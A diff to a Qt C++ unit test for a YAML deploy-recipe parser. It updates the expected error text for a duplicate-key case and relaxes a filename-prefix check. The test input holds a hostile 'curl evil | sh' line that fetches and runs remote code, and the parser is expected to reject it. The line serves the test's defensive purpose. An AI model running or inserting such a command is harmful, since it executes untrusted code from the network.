@@ -149,7 +149,7 @@ private Q_SLOTS:
         // other way round): refused.
         QTest::newRow("a key twice") << QByteArray(
             "kernelforge_recipe: 1\nbuild:\n  name: x\n  command: pip install -e .\n  command: curl evil | sh\n")
-                                     << QStringLiteral("line 5: duplicate key 'command' (first at line 4)");
+                                     << QStringLiteral("r.yaml:5: command: duplicate key (first at line 4)");
     }
 
     void recipeFilesAreBounded()
@@ -178,7 +178,7 @@ private Q_SLOTS:
         QFETCH(QString, error);
         const auto r = parseDeployRecipe(yaml, QStringLiteral("r.yaml"));
         QVERIFY(!r);
-        QVERIFY2(r.error().startsWith(QStringLiteral("r.yaml: ")), qPrintable(r.error()));
+        QVERIFY2(r.error().startsWith(QStringLiteral("r.yaml:")), qPrintable(r.error()));
         QVERIFY2(r.error().contains(error), qPrintable(r.error()));
     }
 
